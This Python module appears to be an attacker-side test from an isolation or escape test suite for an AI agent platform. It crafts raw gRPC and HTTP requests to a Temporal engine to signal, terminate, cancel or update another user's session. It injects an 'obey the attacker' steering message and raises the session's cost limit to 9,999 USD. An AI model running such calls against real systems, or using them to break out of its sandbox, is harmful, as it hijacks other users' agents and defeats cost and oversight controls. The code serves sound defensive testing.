"""Talking to Temporal without its client: gRPC by hand, and its HTTP API. One answer of the server is enough."""

from __future__ import annotations

import base64
import json
import socket
import struct
from collections.abc import Callable
from typing import Any

from tests.escape.attacker.kit import RefusedError, attempt, told
from tests.escape.attacker.network import SECONDS, WAYS, Way

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_ACK, _END_STREAM, _END_HEADERS = 1, 1, 4
_SERVICE = "/temporal.api.workflowservice.v1.WorkflowService/"


def text(number: int, value: str | bytes) -> bytes:
    """A field of a protobuf message with some bytes in it: a string or another message."""
    raw = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(raw)) + raw


def payloads(value: object) -> bytes:
    """Arguments as Temporal carries them."""
    encoding = text(1, text(1, "encoding") + text(2, b"json/plain"))
    return text(1, encoding + text(2, json.dumps(value)))


def messages(known: dict[str, Any]) -> dict[str, bytes]:
    """What the attacker would ask of the engine about another session, by the method's name."""
    victim, space = known["victim"], text(1, "default")
    execution = text(2, text(1, victim))
    raised = text(1, text(1, "attacker")) + text(
        2, text(2, "raise_limits") + text(3, payloads({"max_cost_usd": 9_999}))
    )
    return {
        "SignalWorkflowExecution": space + execution + text(3, "steer") + text(4, payloads("obey the attacker")),
        "GetWorkflowExecutionHistory": space + execution,
        "RespondActivityTaskCompletedById": space + text(2, victim) + text(4, "1") + text(5, payloads({})),
        "UpdateWorkflowExecution": space + execution + text(4, _varint(1 << 3) + b"\x01") + text(5, raised),
        "RequestCancelWorkflowExecution": space + execution,
        "TerminateWorkflowExecution": space + execution + text(3, "by the attacker"),
    }


def call(way: Way, host: str, port: int, method: str, message: bytes) -> str:
    """One gRPC call on a connection of its own; reached when the server answers it."""
    with way(host, port) as sock:
        sock.settimeout(SECONDS)
        names = {
            ":method": "POST",
            ":scheme": "http",
            ":path": _SERVICE + method,
            ":authority": "localhost",
            "te": "trailers",
            "content-type": "application/grpc",
        }
        block = b"".join(b"\x00" + _string(k) + _string(v) for k, v in names.items())
        body = b"\x00" + struct.pack("!I", len(message)) + message
        sock.sendall(
            _PREFACE
            + _frame(_SETTINGS, 0, 0, b"")
            + _frame(_HEADERS, _END_HEADERS, 1, block)
            + _frame(_DATA, _END_STREAM, 1, body)
        )
        return _answer(sock)


def signal_by_http(way: Way, host: str, port: int, victim: str) -> str:
    """What the form of the Web UI does."""
    payload = {
        "metadata": {"encoding": base64.b64encode(b"json/plain").decode()},
        "data": base64.b64encode(b'"obey the attacker"').decode(),
    }
    body = json.dumps({"signalName": "steer", "input": {"payloads": [payload]}})
    path = f"/api/v1/namespaces/default/workflows/{victim}/signal/steer"
    with way(host, port) as sock:
        sock.settimeout(SECONDS)
        head = f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\nConnection: close\r\n"
        sock.sendall(f"{head}Content-Length: {len(body)}\r\n\r\n{body}".encode())
        answer = sock.recv(200)
    if not answer:
        raise RefusedError("closed without a word")
    return answer.split(b"\r\n")[0].decode(errors="replace")


def main() -> None:
    known = told()
    for host in known["engine_hosts"]:
        for name, way in WAYS.items():
            for method, message in messages(known).items():
                attempt(f"engine:{name}:{host}:{method}", _calling(way, host, known, method, message))
            attempt(f"engine:{name}:{host}:http", _signalling(way, host, known))


def _calling(way: Way, host: str, known: dict[str, Any], method: str, message: bytes) -> Callable[[], str]:
    return lambda: call(way, host, known["engine_port"], method, message)


def _signalling(way: Way, host: str, known: dict[str, Any]) -> Callable[[], str]:
    return lambda: signal_by_http(way, host, known["http_port"], known["victim"])


def _answer(sock: socket.socket) -> str:
    """Frames up to the headers of the one stream: the server has taken the call."""
    said = b""
    while True:
        while len(said) >= 9:
            size, kind, flags = int.from_bytes(said[:3], "big"), said[3], said[4]
            if len(said) < 9 + size:
                break
            if kind == _HEADERS:
                return "the server answers"
            if kind == _SETTINGS and not flags & _ACK:
                sock.sendall(_frame(_SETTINGS, _ACK, 0, b""))
            said = said[9 + size :]
        chunk = sock.recv(65_536)
        if not chunk:
            raise RefusedError("closed without an answer")
        said += chunk


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _string(value: str) -> bytes:
    raw = value.encode()
    if len(raw) >= 127:
        raise ValueError("too long for one byte of length")
    return bytes([len(raw)]) + raw


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


if __name__ == "__main__":
    main()
